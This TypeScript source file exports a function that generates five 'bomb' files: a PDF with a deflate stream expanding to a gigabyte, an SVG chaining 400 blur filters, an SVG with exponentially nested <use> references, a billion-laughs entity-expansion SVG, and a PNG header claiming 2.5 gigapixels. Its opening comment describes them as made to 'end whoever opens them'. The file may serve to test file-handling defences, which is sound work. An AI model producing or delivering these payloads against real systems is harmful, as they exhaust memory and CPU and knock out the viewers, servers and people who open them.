// Files made to end whoever opens them.
import { deflateSync } from 'node:zlib';

/** By name. A gigabyte of nothing in a PDF, blurs upon blurs, a page that names itself, a PNG that claims 2.5 gigapixels. */
export function makeBombs(): Map<string, Buffer> {
  return new Map([
    ['flate.pdf', pdfOf(deflateSync(Buffer.alloc(1024 ** 3, ' '), { level: 9 }))],
    ['filters.svg', filterBomb()],
    ['uses.svg', useBomb()],
    ['entities.svg', entityBomb()],
    ['pixels.png', pixelBomb()],
  ]);
}

function pdfOf(stream: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n' +
        '3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 600]/Contents 4 0 R>>\nendobj\n' +
        `4 0 obj\n<</Length ${stream.length}/Filter/FlateDecode>>\nstream\n`,
    ),
    stream,
    Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n'),
  ]);
}

function filterBomb(): Buffer {
  const blurs = Array.from({ length: 400 }, () => '<feGaussianBlur stdDeviation="90"/>').join('');
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000"><filter id="f" x="-2" y="-2" width="5" height="5">${blurs}</filter><rect width="4000" height="4000" filter="url(#f)"/></svg>`,
  );
}

function useBomb(): Buffer {
  const levels = Array.from(
    { length: 30 },
    (_, i) => `<g id="g${i + 1}"><use href="#g${i}"/><use href="#g${i}"/></g>`,
  );
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><g id="g0"><rect width="9" height="9"/></g>${levels.join('')}</svg>`,
  );
}

function entityBomb(): Buffer {
  const entities = Array.from({ length: 12 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join(
    '',
  );
  return Buffer.from(
    `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities}]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e12;</text></svg>`,
  );
}

/** Its header alone is read. */
function pixelBomb(): Buffer {
  const header = Buffer.alloc(33);
  header.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  header.writeUInt32BE(50_000, 16);
  header.writeUInt32BE(50_000, 20);
  header.set([8, 6, 0, 0, 0], 24);
  return header;
}
